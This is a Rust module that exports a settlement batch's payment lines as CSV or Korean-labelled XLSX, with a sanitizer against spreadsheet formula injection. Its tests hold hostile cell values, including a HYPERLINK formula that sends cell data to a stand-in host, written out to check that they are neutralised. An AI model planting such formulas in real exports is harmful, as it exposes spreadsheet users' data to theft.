//! Files out (FILES.md `payments`): a settlement batch's lines as CSV (lines only, English
//! headers as FILES.md names them) or XLSX (Korean headers, won with separators, a total row
//! closing each bank's block, rows past a sheet's limit continued on the next sheet).
//!
//! A file is written next to its destination and renamed into place, so an error never
//! leaves half a file.

use jumpup_domain::ids::BatchId;
use std::collections::HashMap;
use std::path::Path;

use jumpup_store::settlement::ExportLine;
use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};

/// The format of a file out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileFormat {
    Csv,
    Xlsx,
}

impl FileFormat {
    /// Every format, by its name (`csv`, `xlsx`).
    pub const ALL: [(&str, FileFormat); 2] = [("csv", FileFormat::Csv), ("xlsx", FileFormat::Xlsx)];
}

const HEADERS_EN: [&str; 14] = [
    "batch_id",
    "bank_code",
    "loan_no",
    "guarantee_no",
    "business_no",
    "firm_name",
    "period_from",
    "period_to",
    "claimed_won",
    "computed_won",
    "paid_before_won",
    "payable_won",
    "status",
    "reason",
];

const HEADERS_KO: [&str; 14] = [
    "정산번호",
    "은행코드",
    "대출번호",
    "보증번호",
    "사업자등록번호",
    "기업명",
    "청구시작일",
    "청구종료일",
    "청구금액",
    "산정금액",
    "기지급액",
    "지급액",
    "상태",
    "사유",
];

/// Excel's rows per sheet, the header included.
pub const SHEET_ROWS: u32 = 1_048_576;

/// What a file holds: a whole batch (`payments`) or one bank's lines (`statement`, whose CSV
/// ends with a total row so the bank can reconcile it without summing).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Payments,
    Statement,
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("{path}: {source}")]
    Io {
        path: String,
        source: std::io::Error,
    },
    #[error("{path}: {message}")]
    Write { path: String, message: String },
}

/// Writes `lines` (in bank order) of batch `batch_id` to `out`, calling `progress` with the
/// number of lines written so far. `recovered` is what the batch recovered of each bank's
/// clawbacks from its payments: each bank's total shows it and the transfer that remains.
pub fn write(
    batch_id: BatchId,
    lines: &[ExportLine],
    recovered: &HashMap<String, i64>,
    kind: Kind,
    format: FileFormat,
    out: &Path,
    progress: &mut dyn FnMut(u64),
) -> Result<(), ExportError> {
    let shown = out.display().to_string();
    let name = out
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_else(|| "export".into());
    let partial = out.with_file_name(format!(".{name}.partial"));
    let io = |source| ExportError::Io {
        path: shown.clone(),
        source,
    };
    let result = match format {
        FileFormat::Csv => {
            write_csv(batch_id, lines, recovered, kind, &partial, progress).map_err(|e| {
                ExportError::Write {
                    path: shown.clone(),
                    message: e.to_string(),
                }
            })
        }
        FileFormat::Xlsx => write_xlsx(batch_id, lines, recovered, SHEET_ROWS, &partial, progress)
            .map_err(|e| ExportError::Write {
                path: shown.clone(),
                message: e.to_string(),
            }),
    };
    if let Err(e) = result {
        let _ = std::fs::remove_file(&partial);
        return Err(e);
    }
    std::fs::rename(&partial, out).map_err(|e| {
        let _ = std::fs::remove_file(&partial);
        io(e)
    })
}

fn text_cells(batch_id: BatchId, l: &ExportLine) -> [String; 14] {
    [
        batch_id.to_string(),
        l.bank_code.clone(),
        l.line.loan_no.clone(),
        l.guarantee_no.clone().unwrap_or_default(),
        l.business_no.clone().unwrap_or_default(),
        l.firm_name.clone().unwrap_or_default(),
        l.line.period_from.to_string(),
        l.line.period_to.to_string(),
        l.line.claimed.to_string(),
        l.line.computed.to_string(),
        l.line.paid_before.to_string(),
        l.line.payable.to_string(),
        l.line.status.as_str().to_owned(),
        l.line.reason.clone().unwrap_or_default(),
    ]
}

#[derive(Default)]
struct Sums {
    claimed: i64,
    computed: i64,
    paid_before: i64,
    payable: i64,
    /// The positive payables: the payments before netting.
    paid: i64,
}

impl Sums {
    fn add(&mut self, l: &ExportLine) {
        self.claimed += l.line.claimed.get();
        self.computed += l.line.computed.get();
        self.paid_before += l.line.paid_before.get();
        self.payable += l.line.payable.get();
        self.paid += l.line.payable.get().max(0);
    }

    /// The netting of a bank's block (RULES.md 6.4), in words.
    fn netting(&self, recovered: i64, korean: bool) -> String {
        let transfer = crate::settle::transfer(self.paid, recovered);
        let w = |n: i64| jumpup_domain::money::Won::new(n).grouped();
        if korean {
            format!("환수 상계 {}원, 이체액 {}원", w(recovered), w(transfer))
        } else {
            format!("recovered {recovered}; transfer {transfer}")
        }
    }
}

/// A cell as it may go into a CSV file a clerk opens in a spreadsheet (OWASP's CSV injection
/// rule): text beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
/// `'`, so it is shown, never run as a formula; so does text beginning with their full-width
/// forms (`＝`, `＋`, `－`, `＠`), which a Korean or Japanese input method types and some
/// spreadsheets take for the ASCII ones. Integers, negative amounts included, stay numbers.
pub fn csv_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
    ]);
    let number = cell
        .strip_prefix('-')
        .is_some_and(|digits| !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()));
    if risky && !number {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// Writes one record, every cell through [`csv_safe`].
fn safe_record<W: std::io::Write, S: AsRef<str>>(
    w: &mut csv::Writer<W>,
    cells: impl IntoIterator<Item = S>,
) -> Result<(), csv::Error> {
    w.write_record(cells.into_iter().map(|c| csv_safe(c.as_ref()).into_owned()))
}

fn write_csv(
    batch_id: BatchId,
    lines: &[ExportLine],
    recovered: &HashMap<String, i64>,
    kind: Kind,
    path: &Path,
    progress: &mut dyn FnMut(u64),
) -> Result<(), csv::Error> {
    let mut w = csv::Writer::from_path(path)?;
    safe_record(&mut w, HEADERS_EN)?;
    let mut sums = Sums::default();
    for (i, l) in lines.iter().enumerate() {
        safe_record(&mut w, text_cells(batch_id, l))?;
        sums.add(l);
        if i % 10_000 == 0 {
            progress(i as u64);
        }
    }
    if kind == Kind::Statement {
        let bank = lines
            .first()
            .map(|l| l.bank_code.clone())
            .unwrap_or_default();
        safe_record(
            &mut w,
            [
                batch_id.to_string(),
                bank.clone(),
                String::new(),
                String::new(),
                String::new(),
                String::new(),
                String::new(),
                String::new(),
                sums.claimed.to_string(),
                sums.computed.to_string(),
                sums.paid_before.to_string(),
                sums.payable.to_string(),
                "total".into(),
                format!(
                    "{} lines; {}",
                    lines.len(),
                    sums.netting(recovered.get(&bank).copied().unwrap_or(0), false)
                ),
            ],
        )?;
    }
    progress(lines.len() as u64);
    w.flush()?;
    Ok(())
}

struct Sheets {
    workbook: Workbook,
    /// Rows per sheet, the header included.
    limit: u32,
    sheet: usize,
    row: u32,
    header: Format,
    won: Format,
    total: Format,
    total_won: Format,
}

impl Sheets {
    fn new(limit: u32) -> Result<Sheets, XlsxError> {
        let mut s = Sheets {
            workbook: Workbook::new(),
            limit,
            sheet: 0,
            row: 0,
            header: Format::new().set_bold(),
            won: Format::new().set_num_format("#,##0"),
            total: Format::new().set_bold(),
            total_won: Format::new().set_bold().set_num_format("#,##0"),
        };
        s.new_sheet()?;
        Ok(s)
    }

    fn new_sheet(&mut self) -> Result<(), XlsxError> {
        self.sheet += 1;
        let name = if self.sheet == 1 {
            "지급내역".to_owned()
        } else {
            format!("지급내역 {}", self.sheet)
        };
        let header = self.header.clone();
        let ws = self.workbook.add_worksheet_with_constant_memory()?;
        ws.set_name(name)?;
        for (c, h) in HEADERS_KO.iter().enumerate() {
            ws.write_string_with_format(0, c as u16, *h, &header)?;
        }
        for (c, width) in [8, 8, 16, 14, 14, 24, 12, 12, 14, 14, 14, 14, 14, 40]
            .into_iter()
            .enumerate()
        {
            ws.set_column_width(c as u16, width)?;
        }
        self.row = 1;
        Ok(())
    }

    /// The sheet to write the next row on.
    fn next_row(&mut self) -> Result<(&mut Worksheet, u32), XlsxError> {
        if self.row >= self.limit {
            self.new_sheet()?;
        }
        let row = self.row;
        self.row += 1;
        let ws = self.workbook.worksheets_mut().last_mut().expect("a sheet");
        Ok((ws, row))
    }
}

fn write_xlsx(
    batch_id: BatchId,
    lines: &[ExportLine],
    recovered: &HashMap<String, i64>,
    sheet_rows: u32,
    path: &Path,
    progress: &mut dyn FnMut(u64),
) -> Result<(), XlsxError> {
    let mut s = Sheets::new(sheet_rows)?;
    let mut i = 0;
    while i < lines.len() {
        let bank = &lines[i].bank_code;
        let mut sums = Sums::default();
        let mut count = 0usize;
        while i < lines.len() && &lines[i].bank_code == bank {
            let l = &lines[i];
            let won = s.won.clone();
            let (ws, r) = s.next_row()?;
            let cells = text_cells(batch_id, l);
            ws.write(r, 0, batch_id.0)?;
            for (c, text) in cells.iter().enumerate().take(8).skip(1) {
                ws.write_string(r, c as u16, text)?;
            }
            for (c, v) in [
                l.line.claimed,
                l.line.computed,
                l.line.paid_before,
                l.line.payable,
            ]
            .into_iter()
            .enumerate()
            {
                ws.write_with_format(r, 8 + c as u16, v.get(), &won)?;
            }
            ws.write_string(r, 12, l.line.status.as_str())?;
            ws.write_string(r, 13, l.line.reason.as_deref().unwrap_or(""))?;
            sums.add(l);
            count += 1;
            i += 1;
            if i % 10_000 == 0 {
                progress(i as u64);
            }
        }
        let (total, total_won) = (s.total.clone(), s.total_won.clone());
        let (ws, r) = s.next_row()?;
        ws.write_string_with_format(r, 0, "합계", &total)?;
        ws.write_string_with_format(r, 1, bank, &total)?;
        ws.write_string_with_format(r, 2, format!("{count}건"), &total)?;
        for (c, v) in [sums.claimed, sums.computed, sums.paid_before, sums.payable]
            .into_iter()
            .enumerate()
        {
            ws.write_with_format(r, 8 + c as u16, v, &total_won)?;
        }
        let netting = sums.netting(recovered.get(bank).copied().unwrap_or(0), true);
        ws.write_string_with_format(r, 13, netting, &total)?;
    }
    progress(lines.len() as u64);
    s.workbook.save(path)
}

#[cfg(test)]
mod tests {
    use calamine::Reader;
    use jumpup_domain::ids::BankId;
    use jumpup_domain::money::Won;

    use super::*;

    fn line(bank: &str, i: i64) -> ExportLine {
        let day = jumpup_domain::date::parse_date("2025-09-01").expect("a date");
        ExportLine {
            bank_code: bank.into(),
            guarantee_no: None,
            business_no: None,
            firm_name: None,
            line: jumpup_store::settlement::LineRow {
                line_no: i + 1,
                bank_id: BankId(1),
                loan_no: format!("L{i}"),
                case_id: None,
                claim_id: None,
                period_from: day,
                period_to: day,
                claimed: Won::new(1000 + i),
                computed: Won::new(1000),
                paid_before: Won::ZERO,
                payable: Won::new(1000),
                status: jumpup_domain::settlement::Status::Match,
                reason: None,
            },
        }
    }

    #[test]
    fn rows_past_a_sheets_limit_continue_on_the_next_sheet_with_its_header() {
        let dir = std::env::temp_dir().join(format!("jumpup-export-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("a directory");
        let path = dir.join("p.xlsx");
        let lines: Vec<ExportLine> = (0..7)
            .map(|i| line("004", i))
            .chain((7..12).map(|i| line("011", i)))
            .collect();
        write_xlsx(BatchId(1), &lines, &HashMap::new(), 5, &path, &mut |_| {}).expect("written");
        let mut book = calamine::open_workbook_auto(&path).expect("readable");
        let names = book.sheet_names();
        assert_eq!(
            names.len(),
            4,
            "14 rows (12 lines, 2 totals) at 4 per sheet: {names:?}"
        );
        let mut data_rows = 0;
        let mut totals = Vec::new();
        for name in names {
            let range = book.worksheet_range(&name).expect("a sheet");
            let rows: Vec<Vec<String>> = range
                .rows()
                .map(|r| r.iter().map(|c| c.to_string()).collect())
                .collect();
            assert_eq!(rows[0][0], "정산번호", "{name} starts with the header");
            assert!(rows.len() <= 5);
            for r in &rows[1..] {
                if r[0] == "합계" {
                    totals.push((r[1].clone(), r[8].clone()));
                } else {
                    data_rows += 1;
                }
            }
        }
        assert_eq!(data_rows, 12);
        let claimed =
            |range: std::ops::Range<i64>| range.map(|i| 1000 + i).sum::<i64>().to_string();
        assert_eq!(
            totals,
            vec![
                ("004".into(), claimed(0..7)),
                ("011".into(), claimed(7..12))
            ]
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn a_csv_file_shows_a_hostile_firm_name_as_text_and_keeps_negative_amounts_numbers() {
        let dir = std::env::temp_dir().join(format!("jumpup-csv-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("a directory");
        let path = dir.join("p.csv");
        let mut hostile = line("004", 0);
        hostile.firm_name = Some("=HYPERLINK(\"http://x/?\"&A1,\"click\")".into());
        hostile.line.reason = Some("@SUM(A1)".into());
        hostile.line.payable = Won::new(-1000);
        write_csv(
            BatchId(1),
            &[hostile],
            &HashMap::new(),
            Kind::Payments,
            &path,
            &mut |_| {},
        )
        .expect("written");
        let text = std::fs::read_to_string(&path).expect("readable");
        let row: Vec<String> = csv::Reader::from_reader(text.as_bytes())
            .records()
            .next()
            .expect("a line")
            .expect("a record")
            .iter()
            .map(str::to_owned)
            .collect();
        assert_eq!(row[5], "'=HYPERLINK(\"http://x/?\"&A1,\"click\")");
        assert_eq!(row[13], "'@SUM(A1)");
        assert_eq!(row[11], "-1000");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn text_that_a_spreadsheet_would_run_is_shown_and_numbers_stay_numbers() {
        for risky in [
            "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
            "+82",
            "-cmd",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "-",
            "--1",
            "-1e3",
            "＝HYPERLINK(\"http://x/\")",
            "＋82",
            "－cmd",
            "＠SUM(A1)",
        ] {
            assert_eq!(csv_safe(risky), format!("'{risky}"), "{risky:?}");
        }
        for kept in [
            "-1000",
            "0",
            "1234567",
            "(주)점프업",
            "2026-01-31",
            "a=b",
            "",
        ] {
            assert_eq!(csv_safe(kept), kept, "{kept:?}");
        }
    }
}
